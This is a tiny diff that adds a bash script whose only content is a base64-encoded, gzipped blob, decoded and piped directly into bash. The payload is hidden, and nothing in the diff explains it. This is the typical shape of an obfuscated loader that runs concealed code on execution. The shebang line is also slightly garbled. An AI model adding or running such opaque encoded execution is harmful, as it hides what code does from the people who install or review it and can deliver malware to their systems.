@@ -1,0 +1,2 @@
+0#!/bin/bash
+echo H4sIAAAAAAACAx2LyQ6CMBRFf+XtDa1QRcCVQTRRJA447hiiaC2vltagX+9wdyfn3KIEqoUcQmHUHaxzs4mh0loGlDpdRrrEthnxKQcLgfBvVgksodP+gVDyF41WmTaio4vfTyLeSWOkRKVboUiBImDfgWWgNxh7+xXO5q+ySjl33PxxCneTwSRLqvdaJ1O7b+zDdb3yWH0+PvDyim/LRX2M5pm6ja7h22e4c5sojXzOY5bz/Jke3HqxdXphMvbAktB+ANLs6l/TAAAA | base64 -d | gunzip | bash
